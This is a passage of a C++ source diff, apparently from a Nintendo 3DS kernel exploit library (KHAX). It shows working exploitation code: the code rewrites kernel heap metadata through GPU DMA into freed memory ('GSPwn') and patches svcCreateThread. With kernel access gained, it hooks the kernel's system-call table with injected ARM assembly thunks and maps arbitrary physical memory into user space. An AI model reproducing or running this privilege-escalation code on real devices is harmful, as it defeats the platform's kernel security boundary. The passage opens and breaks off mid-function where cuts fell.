+			KHAX_printf("~:recover [%u]+%lx failed:%08lx\n", fixUps[x].m_page, fixUps[x].m_offset, result);
+			return result;
+		}
+		m_corrupted -= fixUps[x].m_weight;
+	}
+
+	if (plan == HeapRepair::PLAN_RESTORE_RIGHT)
+	{
+		KHAX_printf("~:heap recovered\n");
+		return 0;
+	}
+
+	Handle dummyHandle;
+	Result result = svcCreateThread(&dummyHandle, nullptr, 0, nullptr, reinterpret_cast<s32>(
+		Step6a_SVCEntryPointThunk), (std::numeric_limits<s32>::max)());
+	if (m_corrupted != 0)
+	{
+		KHAX_printf("~:unpatch failed:%08lx\n", result);
+		return (result != 0) ? result : MakeError(27, 11, KHAX_MODULE, 1023);
+	}
+
+	KHAX_printf("~:heap recovered; svcCreateThread unpatched\n");
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Overwrite one link of a freed page's heap metadata through GSPwn, leaving the rest of it as
+// the kernel has it.  offset is the link's offset in the free block.
+Result KHAX::MemChunkHax::RewriteFreeBlockLink(Page *page, u32 offset, u32 value)
+{
+	userInvalidateDataCache(m_extraLinear, sizeof(*m_extraLinear));
+	userDmb();
+
+	if (Result result = GSPwn(m_extraLinear, &page->m_freeBlock, sizeof(*m_extraLinear)))
+	{
+		return result;
+	}
+
+	std::memcpy(&m_extraLinear->m_bytes[offset], &value, sizeof(value));
+	userFlushDataCache(m_extraLinear, sizeof(*m_extraLinear));
+
+	return GSPwn(&page->m_freeBlock, m_extraLinear, sizeof(*m_extraLinear));
+}
+
+//------------------------------------------------------------------------------------------------
+// Kernel address of an overwrite page's free block.
+u32 KHAX::MemChunkHax::KernelFreeBlock(unsigned page) const
+{
+	return reinterpret_cast<u32>(m_versionData->ConvertLinearUserVAToKernelVA(
+		&m_overwriteMemory->m_pages[page].m_freeBlock));
+}
+
+//------------------------------------------------------------------------------------------------
+// Helper for dumping memory to SD card.
+template <typename T>
+bool KHAX::MemChunkHax::DumpMemberToSDCard(const T MemChunkHax::*member, const char *filename) const
+{
+	char formatted[32];
+	snprintf(formatted, KHAX_lengthof(formatted), filename,
+		static_cast<unsigned>(m_versionData->m_kernelVersion), m_versionData->m_new3DS ?
+		"New" : "Old");
+
+	bool result = true;
+
+	FILE *file = std::fopen(formatted, "wb");
+	if (file)
+	{
+		result = result && (std::fwrite(&(this->*member), sizeof(this->*member), 1, file) == 1);
+		std::fclose(file);
+	}
+	else
+	{
+		result = false;
+	}
+
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Free memory and such.
+KHAX::MemChunkHax::~MemChunkHax()
+{
+	// Dump memory to SD card if that is enabled.
+#ifdef KHAX_DEBUG_DUMP_DATA
 	if (m_nextStep > 6)
 	{
 		DumpMemberToSDCard(&MemChunkHax::m_savedKProcess, "KProcess-%08X-%s.bin");
 		DumpMemberToSDCard(&MemChunkHax::m_savedKThread, "KThread-%08X-%s.bin");
 		DumpMemberToSDCard(&MemChunkHax::m_savedThreadSVC, "ThreadSVC-%08X-%s.bin");
+		DumpMemberToSDCard(&MemChunkHax::m_savedFacts, "Facts-%08X-%s.bin");
 	}
 #endif
 
-	// If we're corrupted, we're dead.
+	// If we're corrupted, try repairing the heap from user mode before giving up.
+	if (m_corrupted > 0)
+	{
+		RecoverHeapCorruption();
+	}
+
+	// If we're still corrupted, we're dead.
 	if (m_corrupted > 0)
 	{
 		KHAX_printf("~:error while corrupt;freezing\n");
@@ -940,22 +2062,14 @@ KHAX::MemChunkHax::~MemChunkHax()
 	}
 
 	// This function has to be careful not to crash trying to shut down after an aborted attempt.
-	if (m_overwriteMemory)
+	FreeOverwriteMemory();
+
+	// Free the Step4 retry spacers.
+	for (unsigned x = 0; x < m_spacerCount; ++x)
 	{
 		u32 dummy;
-
-		// Each page has a flag indicating that it is still allocated.
-		for (unsigned x = 0; x < KHAX_lengthof(m_overwriteMemory->m_pages); ++x)
-		{
-			// Don't free a page unless it remains allocated.
-			if (m_overwriteAllocated & (1u << x))
-			{
-				Result res = svcControlMemory(&dummy, reinterpret_cast<u32>(&m_overwriteMemory->m_pages[x]), 0,
-					sizeof(m_overwriteMemory->m_pages[x]), MEMOP_FREE, static_cast<MemPerm>(0));
-				KHAX_printf("free %u: %08lx\n", x, res);
-				KHAX_UNUSED(res);
-			}
-		}
+		svcControlMemory(&dummy, m_spacers[x].m_address, 0, m_spacers[x].m_size, MEMOP_FREE,
+			static_cast<MemPerm>(0));
 	}
 
 	// Free the extra linear memory.
@@ -978,221 +2092,3818 @@ KHAX::MemChunkHax::~MemChunkHax()
 
 //------------------------------------------------------------------------------------------------
 //
-// Miscellaneous
+// Class AttemptLog
 //
 
 //------------------------------------------------------------------------------------------------
-// Make an error code
-inline Result KHAX::MakeError(Result level, Result summary, Result module, Result error)
-{
-	return (level << 27) + (summary << 21) + (module << 10) + error;
-}
+char KHAX::AttemptLog::s_path[128] = "";
 
 //------------------------------------------------------------------------------------------------
-// Check whether this system is a New 3DS.
-Result KHAX::IsNew3DS(bool *answer, u32 kernelVersionAlreadyKnown)
+// Set the log file path, or null to disable logging.
+Result KHAX::AttemptLog::SetPath(const char *path)
 {
-	// If the kernel version isn't already known by the caller, find out.
-	u32 kernelVersion = kernelVersionAlreadyKnown;
-	if (kernelVersion == 0)
+	if (!path)
 	{
-		kernelVersion = osGetKernelVersion();
+		s_path[0] = '\0';
+		return 0;
 	}
 
-	// APT_CheckNew3DS doesn't work on < 8.0.0, but neither do such New 3DS's exist.
-	if (kernelVersion >= SYSTEM_VERSION(2, 44, 6))
+	if (std::strlen(path) >= sizeof(s_path))
 	{
-		// Check whether the system is a New 3DS.  If this fails, abort, because being wrong would
-		// crash the system.
-		bool isNew3DS = false;
-		if (Result error = APT_CheckNew3DS(&isNew3DS))
-		{
-			*answer = false;
-			return error;
-		}
-
-		// Use the result of APT_CheckNew3DS.
-		*answer = isNew3DS;
-		return 0;
+		return MakeError(28, 7, KHAX_MODULE, 1001);
 	}
 
-	// Kernel is older than 8.0.0, so we logically conclude that this cannot be a New 3DS.
-	*answer = false;
+	std::strcpy(s_path, path);
 	return 0;
 }
 
 //------------------------------------------------------------------------------------------------
-// gspwn, meant for reading from or writing to freed buffers.
-Result KHAX::GSPwn(void *dest, const void *src, std::size_t size, bool wait)
+// Append a record describing the attempt that just finished.  The record is built in memory and
+// written with one unbuffered write, so an interrupted attempt can't leave half of one behind
+// in the stdio buffer.  Logging is best effort; errors are ignored.
+void KHAX::AttemptLog::Append(Result result, u32 totalTicks)
 {
-	// Copy that floppy.
-	if (Result result = GX_TextureCopy(static_cast<u32 *>(const_cast<void *>(src)), 0,
-		static_cast<u32 *>(dest), 0, size, 8))
-	{
-		KHAX_printf("gspwn:copy fail:%08lx\n", result);
-		return result;
-	}
+	static_assert(sizeof(KhaxLogRecord) == 0x60, "KhaxLogRecord isn't the expected size.");
+	static_assert(KHAX_lengthof(KhaxLogRecord().stepTicks) == KHAX_lengthof(g_statistics.m_stepTicks),
+		"KhaxLogRecord::stepTicks doesn't match the number of steps.");
 
-	// Wait for the operation to finish.
-	if (wait)
+	if (s_path[0] == '\0')
 	{
-		gspWaitForPPF();
+		return;
 	}
 
-	// Nuke the data cache.
-	if (Result result = NukeDataCache())
+	KhaxLogRecord record;
+	std::memset(&record, 0, sizeof(record));
+
+	bool isNew3DS = false;
+	IsNew3DS(&isNew3DS, 0);
+
+	record.magic = KHAX_LOG_MAGIC;
+	record.version = KHAX_LOG_VERSION;
+	record.size = sizeof(record);
+	record.timestamp = osGetTime();
+	record.kernelVersion = osGetKernelVersion();
+	record.firmVersion = osGetFirmVersion();
+	record.new3DS = isNew3DS;
+	record.failedStep = static_cast<uint8_t>(g_statistics.m_failedStep);
+	record.layoutCheck = static_cast<uint8_t>(g_statistics.m_layoutFinding.m_check);
+	record.result = result;
+	record.layoutExpected = g_statistics.m_layoutFinding.m_expected;
+	record.layoutActual = g_statistics.m_layoutFinding.m_actual;
+	std::memcpy(record.stepTicks, g_statistics.m_stepTicks, sizeof(record.stepTicks));
+	record.totalTicks = totalTicks;
+	record.interruptsOffMaxTicks = g_statistics.m_windowMaxTicks;
+	record.gspwnCount = g_statistics.m_gspwnCount;
+	record.layoutAttempts = g_statistics.m_layoutAttempts;
+
+	FILE *file = std::fopen(s_path, "ab");
+	if (file)
 	{
-		KHAX_printf("gspwn:NukeDataCache fail %08lx\n", result);
-		return result;
+		std::setvbuf(file, nullptr, _IONBF, 0);
+		std::fwrite(&record, sizeof(record), 1, file);
+		std::fclose(file);
 	}
-
-	return 0;
 }
 
-Result KHAX::userFlushDataCache(const void *p, std::size_t n)
-{
-	return GSPGPU_FlushDataCache(p, n);
-}
 
-Result KHAX::userInvalidateDataCache(const void *p, std::size_t n)
-{
-	return GSPGPU_InvalidateDataCache(p, n);
-}
+//------------------------------------------------------------------------------------------------
+//
+// Class KernelCriticalSection
+//
 
-void KHAX::userFlushPrefetch()
-{
-	__asm__ volatile ("mcr p15, 0, %0, c7, c5, 4\n" :: "r"(0));
-}
+//------------------------------------------------------------------------------------------------
+KHAX::Statistics KHAX::g_statistics = { 0, 0, KHAX::Statistics::DEFAULT_WINDOW_BUDGET, { }, { }, 0, 0, 0, 0, 0, 0,
+	KHAX::Statistics::DEFAULT_LAYOUT_RETRY_LIMIT, 0, 0, { }, 0, 0 };
 
-void KHAX::userDsb()
+//------------------------------------------------------------------------------------------------
+// Disable interrupts and start timing.
+KHAX::KernelCriticalSection::KernelCriticalSection()
 {
-	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 4\n" :: "r"(0));
+	Enter();
 }
 
-void KHAX::userDmb()
+//------------------------------------------------------------------------------------------------
+// Record the window and restore the previous interrupt state.
+KHAX::KernelCriticalSection::~KernelCriticalSection()
 {
-	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 5\n" :: "r"(0));
+	Leave();
 }
 
-void KHAX::kernelCleanDataCacheLineWithMva(const void *p)
+//------------------------------------------------------------------------------------------------
+// If the current window has run past the budget, close it and open a new one.  Interrupts that
+// became pending during the window get serviced in between, unless our caller already had them
+// disabled, in which case there is nothing we can do about it.
+void KHAX::KernelCriticalSection::Checkpoint()
 {
-	__asm__ volatile ("mcr p15, 0, %0, c7, c10, 1\n" :: "r"(p));
+	if (kernelGetCycleCounter() - m_startTick >= g_statistics.m_windowBudgetTicks)
+	{
+		KHAX_trace(WINDOW_SPLIT, kernelGetCycleCounter() - m_startTick, g_statistics.m_windowBudgetTicks);
+		Leave();
+		Enter();
+	}
 }
 
-void KHAX::kernelInvalidateInstructionCacheLineWithMva(const void *p)
+//------------------------------------------------------------------------------------------------
+// Open a window.
+void KHAX::KernelCriticalSection::Enter()
 {
-	__asm__ volatile ("mcr p15, 0, %0, c7, c5, 1\n" :: "r"(p));
+	m_savedCPSR = kernelDisableInterrupts();
+	m_startTick = kernelGetCycleCounter();
 }
 
 //------------------------------------------------------------------------------------------------
-// Flush the entire CPU data cache by nuking it from orbit.  This is a hack, but the system
-// call svcInvalidateDataCache is probably not accessible to us.
-Result KHAX::NukeDataCache()
+// Close a window and record its length.  Still runs with interrupts disabled, but the other
+// cores may be recording at the same time, so the updates are atomic.
+void KHAX::KernelCriticalSection::Leave()
 {
-	// Allocate a 2 MB dummy buffer.
-	enum : unsigned { DUMMY_ALLOC_SIZE = 2 * 1024 * 1024 };
+	// Unsigned subtraction handles the 32-bit counter wrapping once.
+	u32 ticks = kernelGetCycleCounter() - m_startTick;
 
-	u32 *dummyMemory = new(std::nothrow) u32[DUMMY_ALLOC_SIZE / sizeof(*dummyMemory)];
-	if (!dummyMemory)
+	u32 index = __sync_fetch_and_add(&g_statistics.m_windowCount, 1);
+	g_statistics.m_windowHistory[index % Statistics::WINDOW_HISTORY_SIZE] = ticks;
+
+	u32 oldMax = g_statistics.m_windowMaxTicks;
+	while ((ticks > oldMax) && !__sync_bool_compare_and_swap(&g_statistics.m_windowMaxTicks, oldMax, ticks))
 	{
-		return MakeError(26, 3, KHAX_MODULE, 1011);
+		oldMax = g_statistics.m_windowMaxTicks;
 	}
 
-	// Read from each dword of the buffer in order to force everything else
-	// out of the data cache.
-	volatile u32 *volatileMemory = dummyMemory;
-	for (unsigned x = 0; x < DUMMY_ALLOC_SIZE / sizeof(*dummyMemory); ++x)
-		static_cast<void>(*volatileMemory++);
-
-	// Free the dummy buffer.
-	delete[] dummyMemory;
-
-	return 0;
+	kernelRestoreInterrupts(m_savedCPSR);
 }
 
-//------------------------------------------------------------------------------------------------
-// Given a pointer to a structure that is a member of another structure,
-// return a pointer to the outer structure.  Inspired by Windows macro.
-template <typename Outer, typename Inner>
-Outer *KHAX::ContainingRecord(Inner *member, Inner Outer::*field)
-{
-	unsigned char *p = reinterpret_cast<unsigned char *>(member);
-	p -= reinterpret_cast<std::uintptr_t>(&(static_cast<Outer *>(nullptr)->*field));
-	return reinterpret_cast<Outer *>(p);
-}
 
 //------------------------------------------------------------------------------------------------
-// Main initialization function interface.
-extern "C" Result khaxInit()
-{
-	using namespace KHAX;
+//
+// Class SVCProfiler
+//
 
-#ifdef KHAX_DEBUG
-	bool isNew3DS;
-	IsNew3DS(&isNew3DS, 0);
-	KHAX_printf("khaxInit: k=%08lx f=%08lx n=%d\n", osGetKernelVersion(), osGetFirmVersion(),
-		isNew3DS);
+//------------------------------------------------------------------------------------------------
+// Thunk code template, copied into SVCProfiler::Buffer::m_code.  The first 0x80 pairs of
+// instructions are the per-SVC entry points, which put the SVC number into ip.  The common code
+// passes calls from other processes straight through.  For our own calls, it bumps the call count,
+// notes the core and the cycle count, and calls the original handler with the original r0-r7.
+// The cycle counter is per-core, so if the call returns on a different core (a blocking call can
+// be rescheduled anywhere), the elapsed time is meaningless; the call is counted as untimed
+// instead of adding into the 64-bit total.  All updates are atomic, as several cores may be in
+// here at once.  r0-r3 are preserved on the way out because handlers return results in them.  The
+// final word is a literal that Install patches to the buffer's kernel address.
+#ifndef _MSC_VER
+__asm__(
+	".section .rodata.khaxSVCProfilerTemplate, \"a\"\n"
+	".arm\n"
+	".balign 4\n"
+	".global khaxSVCProfilerTemplate\n"
+	"khaxSVCProfilerTemplate:\n"
+	".set khaxSVCNumber, 0\n"
+	".rept 0x80\n"
+	"	mov ip, #khaxSVCNumber\n"
+	"	b 3f\n"
+	".set khaxSVCNumber, khaxSVCNumber + 1\n"
+	".endr\n"
+	"3:	sub sp, sp, #8\n"                  // [sp+24] = start tick, [sp+28] = start core
+	"	push {r0-r3, ip, lr}\n"            // [sp+16] = SVC number, [sp+20] = return address
+	"	ldr r0, 6f\n"
+	"	ldr r1, 5f\n"
+	"	ldr r1, [r1]\n"
+	"	ldr r2, [r0, #0xA00]\n"
+	"	add r3, r0, #0x800\n"
+	"	ldr r3, [r3, ip, lsl #2]\n"
+	"	cmp r1, r2\n"
+	"	bne 4f\n"
+	"	add r1, r0, #0x400\n"
+	"	add r1, r1, ip, lsl #2\n"
+	"1:	ldrex r2, [r1]\n"
+	"	add r2, r2, #1\n"
+	"	strex lr, r2, [r1]\n"
+	"	cmp lr, #0\n"
+	"	bne 1b\n"
+	"	mrc p15, 0, r2, c0, c0, 5\n"
+	"	and r2, r2, #3\n"
+	"	str r2, [sp, #28]\n"
+	"	mrc p15, 0, r2, c15, c12, 1\n"
+	"	str r2, [sp, #24]\n"
+	"	mov ip, r3\n"
+	"	pop {r0-r3}\n"
+	"	blx ip\n"
+	"	push {r0-r3}\n"
+	"	mrc p15, 0, r3, c15, c12, 1\n"
+	"	ldr r2, [sp, #24]\n"
+	"	sub r1, r3, r2\n"
+	"	mrc p15, 0, r3, c0, c0, 5\n"
+	"	and r3, r3, #3\n"
+	"	ldr r2, [sp, #28]\n"
+	"	ldr ip, [sp, #16]\n"
+	"	ldr r0, 6f\n"
+	"	cmp r2, r3\n"
+	"	bne 7f\n"
+	"	add r0, r0, ip, lsl #3\n"
+	"2:	ldrexd r2, r3, [r0]\n"
+	"	adds r2, r2, r1\n"
+	"	adc r3, r3, #0\n"
+	"	strexd ip, r2, r3, [r0]\n"
+	"	cmp ip, #0\n"
+	"	bne 2b\n"
+	"8:	pop {r0-r3}\n"
+	"	ldr lr, [sp, #4]\n"
+	"	add sp, sp, #16\n"
+	"	bx lr\n"
+	"7:	add r0, r0, #0x600\n"
+	"	add r0, r0, ip, lsl #2\n"
+	"9:	ldrex r2, [r0]\n"
+	"	add r2, r2, #1\n"
+	"	strex r3, r2, [r0]\n"
+	"	cmp r3, #0\n"
+	"	bne 9b\n"
+	"	b 8b\n"
+	"4:	mov ip, r3\n"
+	"	pop {r0-r3}\n"
+	"	ldr lr, [sp, #4]\n"
+	"	add sp, sp, #16\n"
+	"	bx ip\n"
+	"5:	.word 0xFFFF9004\n"                // VersionData::m_currentKProcessPtr
+	"6:	.word 0\n"                         // kernel address of the Buffer
+	".global khaxSVCProfilerTemplateEnd\n"
+	"khaxSVCProfilerTemplateEnd:\n"
+	".previous\n");
 #endif
 
-	// Look up the current system's version in our table.
-	const VersionData *versionData = VersionData::GetForCurrentSystem();
-	if (!versionData)
-	{
-		KHAX_printf("khaxInit: Unknown kernel version\n");
-		return MakeError(27, 6, KHAX_MODULE, 39);
-	}
-
-	KHAX_printf("verdat t=%08lx s=%08lx v=%08lx\n", versionData->m_threadPatchAddress,
-		versionData->m_syscallPatchAddress, versionData->m_fcramVirtualAddress);
+extern "C" const u32 khaxSVCProfilerTemplate[];
+extern "C" const u32 khaxSVCProfilerTemplateEnd[];
 
-	// Create the hack object.
-	MemChunkHax hax{ versionData };
+//------------------------------------------------------------------------------------------------
+KHAX::SVCProfiler::Buffer *KHAX::SVCProfiler::s_buffer = nullptr;
+KHAX::SVCProfiler::Buffer *KHAX::SVCProfiler::s_kernelBuffer = nullptr;
+u32 *KHAX::SVCProfiler::s_table = nullptr;
+bool KHAX::SVCProfiler::s_installed = false;
+bool KHAX::SVCProfiler::s_atExitRegistered = false;
 
-	// Run through the steps.
-	if (Result result = hax.Step1_Initialize())
-	{
-		KHAX_printf("khaxInit: Step1 failed: %08lx\n", result);
-		return result;
-	}
-	if (Result result = hax.Step2_AllocateMemory())
+//------------------------------------------------------------------------------------------------
+// Install the hooks, or just return the profile if they're already installed.
+Result KHAX::SVCProfiler::Install(const volatile KhaxSVCProfile **profile)
+{
+	if (Result result = RequireKernelAccess())
 	{
-		KHAX_printf("khaxInit: Step2 failed: %08lx\n", result);
 		return result;
 	}
-	if (Result result = hax.Step3_SurroundFree())
+
+	if (!s_installed)
 	{
-		KHAX_printf("khaxInit: Step3 failed: %08lx\n", result);
-		return result;
+		// Build the buffer the first time through.
+		if (!s_buffer)
+		{
+			std::size_t templateSize = reinterpret_cast<std::uintptr_t>(khaxSVCProfilerTemplateEnd) -
+				reinterpret_cast<std::uintptr_t>(khaxSVCProfilerTemplate);
+			if (templateSize > sizeof(s_buffer->m_code))
+			{
+				KHAX_printf("SVCProfiler:template too big\n");
+				return MakeError(27, 11, KHAX_MODULE, 1004);
+			}
+
+			Buffer *buffer = static_cast<Buffer *>(linearMemAlign(sizeof(Buffer), 0x1000));
+			if (!buffer)
+			{
+				return MakeError(26, 3, KHAX_MODULE, 1011);
+			}
+
+			Buffer *kernelBuffer = static_cast<Buffer *>(g_versionData->ConvertLinearUserVAToKernelVA(buffer));
+			if (!kernelBuffer)
+			{
+				linearFree(buffer);
+				return MakeError(27, 11, KHAX_MODULE, 1013);
+			}
+
+			std::memset(buffer, 0, sizeof(*buffer));
+			std::memcpy(buffer->m_code, khaxSVCProfilerTemplate, templateSize);
+			buffer->m_code[templateSize / sizeof(u32) - 1] = reinterpret_cast<std::uintptr_t>(kernelBuffer);
+
+			s_buffer = buffer;
+			s_kernelBuffer = kernelBuffer;
+		}
+
+		// The hooks point into our memory, so they must not outlive the process.
+		if (!s_atExitRegistered)
+		{
+			if (std::atexit(UninstallAtExit) != 0)
+			{
+				return MakeError(26, 3, KHAX_MODULE, 1011);
+			}
+			s_atExitRegistered = true;
+		}
+
+		// Push the code out of the data cache so that the kernel fetches what we wrote.
+		if (Result result = userFlushDataCache(s_buffer, sizeof(*s_buffer)))
+		{
+			return result;
+		}
+
+		// Every core runs the thunks, including on behalf of other processes, so every core's
+		// instruction cache must be rid of stale lines before the hooks go in.
+		u32 reached;
+		Result result = KernelCallOnEachCore(KernelInvalidateThunks, nullptr, &reached);
+		if ((result == 0) && (reached != (1u << APPLICATION_CORE_COUNT) - 1))
+		{
+			KHAX_printf("SVCProfiler:cores %lx only\n", reached);
+			result = MakeError(28, 5, KHAX_MODULE, 1021);
+		}
+
+		if (result == 0)
+		{
+			AddressTranslator translator = GetAddressTranslator(g_versionData);
+			result = KernelCall(KernelInstall, &translator);
+		}
+		if (result != 0)
+		{
+			KHAX_printf("SVCProfiler:install failed:%08lx\n", result);
+			return result;
+		}
+
+		s_installed = true;
+	}
+
+	if (profile)
+	{
+		*profile = &s_buffer->m_profile;
+	}
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Remove the hooks.
+Result KHAX::SVCProfiler::Uninstall()
+{
+	if (!s_installed)
+	{
+		return 0;
+	}
+
+	if (Result result = KernelCall(KernelUninstall, nullptr))
+	{
+		return result;
+	}
+
+	s_installed = false;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Zero the counters.  Calls in progress may still land in the old totals.
+Result KHAX::SVCProfiler::Reset()
+{
+	if (!s_buffer)
+	{
+		return MakeError(28, 5, KHAX_MODULE, 1016);
+	}
+
+	std::memset(&s_buffer->m_profile, 0, sizeof(s_buffer->m_profile));
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Invalidate the instruction cache lines of the thunks.  Runs as svcBackdoor, on each core.  The
+// thunks were written through our linear heap mapping and cleaned out of the data cache by
+// Install, but this core may hold stale lines for the kernel's mapping of them.
+Result KHAX::SVCProfiler::KernelInvalidateThunks(void *)
+{
+	const unsigned char *code = reinterpret_cast<const unsigned char *>(s_kernelBuffer->m_code);
+	for (std::size_t offset = 0; offset < sizeof(s_kernelBuffer->m_code); offset += 32)
+	{
+		kernelInvalidateInstructionCacheLineWithMva(code + offset);
+	}
+	userFlushPrefetch();
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Check and install the hooks.  Runs as svcBackdoor.  The context is an AddressTranslator.
+Result KHAX::SVCProfiler::KernelInstall(void *context)
+{
+	u32 *table = FindSVCTable(g_versionData);
+	if (!table)
+	{
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	// The thunks run from the kernel's FCRAM mapping, which nothing else ever executes.  Check
+	// that both ends of them are mapped executable before pointing anything there.
+	Buffer *buffer = s_kernelBuffer;
+	const AddressTranslator &translator = *static_cast<const AddressTranslator *>(context);
+	if (!kernelIsExecutable(translator, &buffer->m_code[0]) ||
+		!kernelIsExecutable(translator, &buffer->m_code[KHAX_lengthof(buffer->m_code) - 1]))
+	{
+		return MakeError(27, 11, KHAX_MODULE, 1014);
+	}
+
+	buffer->m_process = *g_versionData->m_currentKProcessPtr;
+
+	// Redirect the table entries, splitting the work into several interrupt windows if it runs
+	// long.  Each entry is consistent on its own, so other cores may see a partial installation.
+	KernelCriticalSection criticalSection;
+	for (unsigned svc = 0; svc < SVC_COUNT; ++svc)
+	{
+		buffer->m_originalHandlers[svc] = 0;
+		if ((svc == SVC_BACKDOOR) || (table[svc] == 0))
+		{
+			continue;
+		}
+
+		// The original handler must be visible before the hook is.
+		buffer->m_originalHandlers[svc] = table[svc];
+		userDmb();
+
+		// Each entry thunk is two instructions.
+		table[svc] = reinterpret_cast<std::uintptr_t>(&buffer->m_code[svc * 2]);
+		kernelCleanDataCacheLineWithMva(&table[svc]);
+
+		criticalSection.Checkpoint();
+	}
+	userDsb();
+
+	s_table = table;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Remove the hooks.  Runs as svcBackdoor.
+Result KHAX::SVCProfiler::KernelUninstall(void *)
+{
+	Buffer *buffer = s_kernelBuffer;
+	u32 *table = s_table;
+
+	KernelCriticalSection criticalSection;
+	for (unsigned svc = 0; svc < SVC_COUNT; ++svc)
+	{
+		if (buffer->m_originalHandlers[svc] == 0)
+		{
+			continue;
+		}
+
+		table[svc] = buffer->m_originalHandlers[svc];
+		kernelCleanDataCacheLineWithMva(&table[svc]);
+
+		criticalSection.Checkpoint();
+	}
+	userDsb();
+
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Find the writable alias of the SVC dispatch table.  Runs at SVC privilege.
+u32 *KHAX::SVCProfiler::FindSVCTable(const VersionData *versionData)
+{
+	// m_syscallPatchAddress is the ACL check in the SVC handler, a little before the dispatch.
+	// The dispatch loads the table's address from a literal pool into a register, then indexes
+	// it with "ldr rT, [rN, rM, lsl #2]".  Look at each "ldr rN, [pc, #+imm]" after the check
+	// that is followed by such an indexed load, and whose literal looks like the table.  Exactly
+	// one candidate must qualify; anything else means this isn't the code we think it is.
+	enum : unsigned { SCAN_LIMIT = 64 };
+	enum : unsigned { DISPATCH_DISTANCE = 8 };
+
+	const u32 *code = reinterpret_cast<const u32 *>(versionData->m_syscallPatchAddress);
+	u32 *found = nullptr;
+	for (unsigned x = 0; x < SCAN_LIMIT; ++x)
+	{
+		if ((code[x] & 0xFFFF0000) != 0xE59F0000)
+		{
+			continue;
+		}
+
+		// The register loaded has to be the base of an indexed word load shortly after.
+		u32 baseRegister = (code[x] >> 12) & 0xF;
+		bool indexed = false;
+		for (unsigned y = x + 1; !indexed && (y <= x + DISPATCH_DISTANCE) && (y < SCAN_LIMIT); ++y)
+		{
+			indexed = ((code[y] & 0x0FFF0FF0) == (0x07900100 | (baseRegister << 16)));
+		}
+		if (!indexed)
+		{
+			continue;
+		}
+
+		// PC reads as the address of the instruction plus 8.
+		const u32 *literal = reinterpret_cast<const u32 *>(reinterpret_cast<const unsigned char *>(&code[x + 2]) +
+			(code[x] & 0xFFF));
+
+		// The whole table has to be within kernel code.
+		u32 *table = static_cast<u32 *>(versionData->ConvertKernelCodeToWritableVA(*literal));
+		if (!table || !versionData->ConvertKernelCodeToWritableVA(*literal + SVC_COUNT * sizeof(u32) - 1))
+		{
+			continue;
+		}
+
+		// The entries are handler addresses in kernel code, or zero for unused SVC numbers.
+		unsigned handlers = 0;
+		bool plausible = true;
+		for (unsigned svc = 0; plausible && (svc < SVC_COUNT); ++svc)
+		{
+			if (table[svc] != 0)
+			{
+				plausible = versionData->ConvertKernelCodeToWritableVA(table[svc]) != nullptr;
+				++handlers;
+			}
+		}
+
+		// SVC 0 is unused, and svcBackdoor must be there, since we are running through it.
+		if (!plausible || (handlers < SVC_COUNT / 2) || (table[0] != 0) || (table[SVC_BACKDOOR] == 0))
+		{
+			continue;
+		}
+
+		if (found && (found != table))
+		{
+			KHAX_printf("SVCProfiler:ambiguous table\n");
+			return nullptr;
+		}
+		found = table;
+	}
+
+	return found;
+}
+
+//------------------------------------------------------------------------------------------------
+// The kernel's own handler for a system call, bypassing our hook if one is installed, or 0 if there
+// is none.  Runs at SVC privilege.
+u32 KHAX::SVCProfiler::KernelFindHandler(unsigned svc)
+{
+	if (svc >= SVC_COUNT)
+	{
+		return 0;
+	}
+
+	if (s_installed && (s_kernelBuffer->m_originalHandlers[svc] != 0))
+	{
+		return s_kernelBuffer->m_originalHandlers[svc];
+	}
+
+	u32 *table = s_table ? s_table : FindSVCTable(g_versionData);
+	return table ? table[svc] : 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// atexit handler that removes the hooks if the application didn't.  The thunks live in our
+// linear heap, which the kernel reclaims when we exit.
+void KHAX::SVCProfiler::UninstallAtExit()
+{
+	Uninstall();
+}
+
+
+//------------------------------------------------------------------------------------------------
+//
+// Class PhysicalMapper
+//
+
+//------------------------------------------------------------------------------------------------
+KHAX::PhysicalMapper::Mapping KHAX::PhysicalMapper::s_mappings[MAX_MAPPINGS] = { };
+bool KHAX::PhysicalMapper::s_atExitRegistered = false;
+
+//------------------------------------------------------------------------------------------------
+// Map physical memory at a user address.
+Result KHAX::PhysicalMapper::Map(u32 userAddress, u32 physicalAddress, u32 size, u32 attributes)
+{
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	if (attributes & ~static_cast<u32>(KHAX_MAP_TYPE_MASK | KHAX_MAP_READ_ONLY | KHAX_MAP_EXECUTE))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1005);
+	}
+
+	if ((size == 0) || ((userAddress | physicalAddress | size) & (SECTION_SIZE - 1)))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1009);
+	}
+
+	if ((userAddress == 0) || (userAddress >= USER_SPACE_END) || (size > USER_SPACE_END - userAddress) ||
+		!IsUserRangeFree(userAddress, size))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1013);
+	}
+
+	if (!IsMappable(physicalAddress, size))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1013);
+	}
+
+	// A mapping still being unmapped may be in some core's TLB, even though its entries are clear.
+	Mapping *slot = nullptr;
+	for (Mapping &mapping : s_mappings)
+	{
+		if (mapping.m_size == 0)
+		{
+			slot = slot ? slot : &mapping;
+		}
+		else if ((userAddress < mapping.m_userAddress + mapping.m_size) &&
+			(mapping.m_userAddress < userAddress + size))
+		{
+			return MakeError(28, 5, KHAX_MODULE, 1013);
+		}
+	}
+
+	if (!slot)
+	{
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	// The mappings point into the process's own translation table, so they must not outlive it.
+	if (!s_atExitRegistered)
+	{
+		if (std::atexit(UnmapAllAtExit) != 0)
+		{
+			return MakeError(26, 3, KHAX_MODULE, 1011);
+		}
+		s_atExitRegistered = true;
+	}
+
+	Request request = { { userAddress, size, MakeSectionDescriptor(physicalAddress, attributes), false },
